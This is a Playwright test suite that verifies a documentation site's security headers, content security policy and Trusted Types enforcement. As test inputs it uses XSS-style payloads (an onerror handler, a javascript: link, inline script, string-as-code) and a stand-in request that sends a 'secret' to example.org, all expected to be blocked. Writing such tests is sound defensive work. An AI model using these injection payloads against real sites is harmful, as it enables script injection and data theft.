import type {Page} from '@playwright/test';
import {expect, flushRequests, open, test, waitForIdlePage} from '../fixtures';

test('every kind of response has the security headers', async ({request}) => {
  for (const path of ['/', '/docs/context', '/nothing', '/img/mark.svg']) {
    const headers = (await request.get(path)).headers();
    expect(headers['content-security-policy']).toContain("default-src 'self'; script-src 'self' 'sha256-");
    expect(headers['strict-transport-security']).toMatch(/^max-age=\d{8}$/);
    expect(headers['x-content-type-options']).toBe('nosniff');
    expect(headers['referrer-policy']).toBe('strict-origin-when-cross-origin');
    expect(headers['permissions-policy']).toContain('camera=()');
    expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
    expect(headers['content-security-policy']).toContain(
      "require-trusted-types-for 'script'; trusted-types default",
    );
    expect(headers['set-cookie']).toBeUndefined();
  }
});

test('only pages with posts from Twitter allow Twitter in their content security policy', async ({
  request,
}) => {
  for (const path of ['/docs/love', '/docs/love.html']) {
    const policy = (await request.get(path)).headers()['content-security-policy'];
    expect(policy).toMatch(/script-src [^;]* https:\/\/platform\.twitter\.com;/);
    // Twitter's script has no Trusted Types policy.
    expect(policy).not.toContain('trusted-types');
  }
  for (const path of ['/', '/docs', '/docs/lovely', '/docs/v9', '/nothing', '/img/mark.svg']) {
    expect((await request.get(path)).headers()['content-security-policy']).not.toContain('twitter');
  }
});

/** The first of these pages requires Trusted Types. The second one doesn't, so it shows what the rest of the policy blocks. */
const pagesToAttack = ['/docs/context', '/docs/love'];

test.describe('injected content', () => {
  test.use({
    allowedConsoleMessages:
      /blocked by the CSP|Content Security [Pp]olicy|Failed to load resource|requires 'Trusted\w+' assignment/,
  });

  test('the Trusted Types policy refuses markup and scripts that could run code', async ({page}) => {
    await open(page, '/docs/context');
    const outcomes = await page.evaluate(() => {
      const isRefused = (action: () => void) => {
        try {
          action();
          return false;
        } catch (error) {
          return error instanceof TypeError;
        }
      };
      const element = document.createElement('div');
      const script = document.createElement('script');
      return {
        markup: isRefused(() => (element.innerHTML = '<b>bold</b> and <code>code</code>')),
        eventHandler: isRefused(() => (element.innerHTML = '<img src="/none.svg" onerror="alert(1)">')),
        scriptOfSite: isRefused(() => (script.src = '/assets/js/main.js')),
        uploadedScript: isRefused(() => (script.src = '/uploads/script.js')),
        scriptText: isRefused(() => (script.text = 'alert(1)')),
        // TypeScript doesn't know Trusted Types.
        secondPolicy: isRefused(() => Reflect.get(window, 'trustedTypes').createPolicy('default', {})),
        otherPolicy: isRefused(() => Reflect.get(window, 'trustedTypes').createPolicy('other', {})),
      };
    });
    expect(outcomes).toEqual({
      markup: false,
      eventHandler: true,
      scriptOfSite: false,
      uploadedScript: true,
      scriptText: true,
      secondPolicy: true,
      otherPolicy: true,
    });
  });

  for (const path of pagesToAttack) {
    test(`the content security policy of ${path} blocks injected code`, async ({page}) => {
      await open(page, path);
      expect(await tryInjections(page)).toEqual([]);
    });
  }

  test.describe('when the content security policy is bypassed', () => {
    test.use({bypassCSP: true});

    // This test proves that the test above would fail if injected code ran.
    test('injected code runs', async ({page}) => {
      await open(page, '/docs/context');
      expect((await tryInjections(page)).sort()).toEqual([
        'event handler',
        'inline script',
        'javascript link',
        'string as code',
      ]);
    });
  });

  for (const path of pagesToAttack) {
    test(`injected content of ${path} can’t load anything from other origins or send anything to them`, async ({
      page,
    }) => {
      const crossOriginUrls: string[] = [];
      await page.route(
        url => url.hostname !== 'localhost',
        route => {
          crossOriginUrls.push(route.request().url());
          return route.abort();
        },
      );
      await open(page, path);
      await page.evaluate(async () => {
        const blocked = new Set<string>();
        document.addEventListener('securitypolicyviolation', ({effectiveDirective}) =>
          blocked.add(effectiveDirective),
        );
        for (const [name, attribute] of [
          ['script', 'src'],
          ['img', 'src'],
          ['iframe', 'src'],
        ] as const) {
          const element = document.createElement(name);
          try {
            element.setAttribute(attribute, 'https://example.org/');
          } catch {
            // The Trusted Types policy has refused the address of the script, which is one violation.
          }
          document.body.append(element);
        }
        await fetch('https://example.org/?secret').catch(() => undefined);
        // The policy has decided about all four requests when the browser has reported four violations.
        await new Promise<void>(resolve => {
          const check = () => (blocked.size === 4 ? resolve() : requestAnimationFrame(check));
          check();
        });
      });
      await flushRequests(page);
      expect(crossOriginUrls).toEqual([]);
    });
  }
});

test('visiting the site sets no cookies and sends no requests to other origins', async ({
  page,
  context,
  baseURL,
}) => {
  const crossOriginUrls: string[] = [];
  page.on('request', request => {
    if (!request.url().startsWith(`${baseURL}/`) && !request.url().startsWith('data:')) {
      crossOriginUrls.push(request.url());
    }
  });
  for (const path of [
    '/',
    '/docs',
    '/docs/love',
    '/docs/v9/router',
    '/blog/announcing-trpc-10',
    '/downloads',
    '/media',
    '/playground',
    '/search?q=router',
  ]) {
    await open(page, path);
    await waitForIdlePage(page);
  }
  await page.getByRole('button', {name: /Switch between dark and light mode/}).click();
  expect(crossOriginUrls).toEqual([]);
  expect(await context.cookies()).toEqual([]);
});

/** Tries to run code in the page in four ways, and returns the names of the ways that worked. */
async function tryInjections(page: Page): Promise<string[]> {
  return page.evaluate(async () => {
    const successfulWays: string[] = [];
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', ({effectiveDirective}) =>
      violations.push(effectiveDirective),
    );
    Reflect.set(window, 'successfulWays', successfulWays);
    const insert = (name: string, property: 'innerHTML' | 'textContent', text: string) => {
      const element = document.createElement(name);
      try {
        element[property] = text;
      } catch {
        // The Trusted Types policy has refused the text, which is one violation.
      }
      document.body.append(element);
      return element;
    };
    insert('script', 'textContent', "window.successfulWays.push('inline script')");
    insert(
      'div',
      'innerHTML',
      `<img src="/img/none.svg" onerror="window.successfulWays.push('event handler')">`,
    );
    const link = `<a href="javascript:window.successfulWays.push('javascript link')">x</a>`;
    insert('div', 'innerHTML', link).querySelector('a')?.click();
    // The content security policy doesn't apply to code that Playwright evaluates directly. It does apply to this timer.
    setTimeout(() => new Function("window.successfulWays.push('string as code')")());
    // Each way either works or violates the policy.
    await new Promise<void>(resolve => {
      const check = () =>
        successfulWays.length + violations.length === 4 ? resolve() : requestAnimationFrame(check);
      check();
    });
    return successfulWays;
  });
}
